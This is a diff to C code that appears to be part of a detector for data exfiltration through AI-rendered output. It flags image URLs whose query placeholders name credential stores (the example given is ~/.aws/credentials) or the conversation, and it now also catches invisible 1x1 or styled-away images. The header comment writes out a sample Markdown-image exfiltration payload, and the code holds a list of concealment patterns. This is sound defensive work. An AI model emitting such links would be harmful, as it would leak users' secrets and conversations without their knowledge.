@@ -5,7 +5,8 @@
  * secret's store (a Markdown image `![badge](https://host/b.svg?c=<contents of
  * ~/.aws/credentials>)`, fetched when the answer is rendered) is that secret sent, and one
  * naming the conversation or what the agent read (`?s=<summary of the conversation>`) is the
- * conversation sent. */
+ * conversation sent; every placeholder of the query is read, and an image no reader sees (a
+ * 1x1 pixel, one styled away) carrying one is that data sent unnoticed. */
 #include <stdlib.h>
 #include <string.h>
 
@@ -89,7 +90,25 @@ static bool names_conversation(const char *p, size_t n) {
   return false;
 }
 
-enum { CARRIES_NONE, CARRIES_STORE, CARRIES_CONVERSATION };
+/* What a URL's placeholders name, least to most: a secret's name (a key variable: sent only
+ * when no reader sees the image), the conversation, a secret's store. */
+enum { CARRIES_NONE, CARRIES_SECRET, CARRIES_CONVERSATION, CARRIES_STORE };
+
+/* The placeholder that opens at p (`<...>`, `{...}`, `{{...}}`, `$(...)`, at most n bytes):
+ * what it names, and where scanning goes on (*next). */
+static int placeholder(const char *p, size_t n, const char **next) {
+  size_t k = n < PLACEHOLDER ? n : PLACEHOLDER;
+  const char *close = memchr(p, *p == '<' ? '>' : *p == '{' ? '}' : ')', k);
+  size_t len = close ? (size_t)(close - p - 1) : k - 1;
+  *next = close ? close + 1 : p + k;
+  upk__intent_signals g;
+  upk__intent_score(p + 1, len, &g);
+  if (g.store)
+    return CARRIES_STORE;
+  if (names_conversation(p + 1, len))
+    return CARRIES_CONVERSATION;
+  return g.data ? CARRIES_SECRET : CARRIES_NONE;
+}
 
 /* A URL in s whose query holds a placeholder (`<...>`, `{...}`, `$(...)`) naming a secret's
  * store, or the conversation and what the agent read: what a client fetches when it renders
@@ -102,29 +121,52 @@ static int url_carries(const char *s, size_t n) {
       q++;
     if (q >= end || *q != '?')
       continue;
-    const char *p = q;
-    while (p < end && *p != '<' && *p != '{' && *p != '$' && *p != ' ' && *p != '\n' && *p != ')')
-      p++;
-    if (p >= end || !strchr("<{$", *p))
-      continue;
-    size_t k = (size_t)(end - p) < PLACEHOLDER ? (size_t)(end - p) : PLACEHOLDER;
-    const char *close = memchr(p, *p == '<' ? '>' : *p == '{' ? '}' : ')', k);
-    size_t len = close ? (size_t)(close - p - 1) : k - 1;
-    upk__intent_signals g;
-    upk__intent_score(p + 1, len, &g);
-    if (g.store)
-      return CARRIES_STORE;
-    if (names_conversation(p + 1, len))
-      kind = CARRIES_CONVERSATION;
+    for (const char *p = q; p < end;) { /* each placeholder of the query, in turn */
+      while (p < end && *p != '<' && *p != '{' && *p != '$' && *p != ' ' && *p != '\n' &&
+             *p != ')' && *p != '"' && *p != '\'')
+        p++;
+      if (p >= end || !strchr("<{$", *p))
+        break;
+      int c = placeholder(p, (size_t)(end - p), &p);
+      if (c == CARRIES_STORE)
+        return c;
+      kind = c > kind ? c : kind;
+    }
   }
   return kind;
 }
 
+/* An image no reader sees (a pixel, or one styled away): what its URL carries leaves
+ * unnoticed when the page is rendered. */
+static bool invisible_image(const char *s, size_t n) {
+  static const char *const HIDDEN[] = {"width=\"1\"",   "width=1",           "width=\"0\"",
+                                       "width=0",       "height=\"1\"",      "height=1",
+                                       "height=\"0\"",  "height=0",          "display:none",
+                                       "display: none", "visibility:hidden", "visibility: hidden",
+                                       " hidden>",      " hidden "};
+  char low[1024];
+  size_t k = n < sizeof low - 1 ? n : sizeof low - 1;
+  for (size_t i = 0; i < k; i++)
+    low[i] = (char)(s[i] >= 'A' && s[i] <= 'Z' ? s[i] + 32 : s[i]);
+  low[k] = '\0';
+  if (!strstr(low, "<img"))
+    return false;
+  for (size_t i = 0; i < sizeof HIDDEN / sizeof *HIDDEN; i++)
+    for (const char *h = low; (h = strstr(h, HIDDEN[i])) != NULL; h++) {
+      char after = h[strlen(HIDDEN[i])];
+      if (!(after >= '0' && after <= '9')) /* width=1, not width=120 */
+        return true;
+    }
+  return false;
+}
+
 void upk__intent_carried(const char *s, size_t n, upk__intent_signals *sig) {
   int kind = url_carries(s, n);
+  bool unseen = kind != CARRIES_NONE && invisible_image(s, n);
   if (kind == CARRIES_STORE)
     sig->store = sig->data = sig->egress = sig->sink = true;
-  else if (kind == CARRIES_CONVERSATION)
+  else if (kind == CARRIES_CONVERSATION || unseen)
     sig->data = sig->egress = sig->sink = true;
+  sig->conceal |= unseen;
   decoded_runs(s, n, sig);
 }
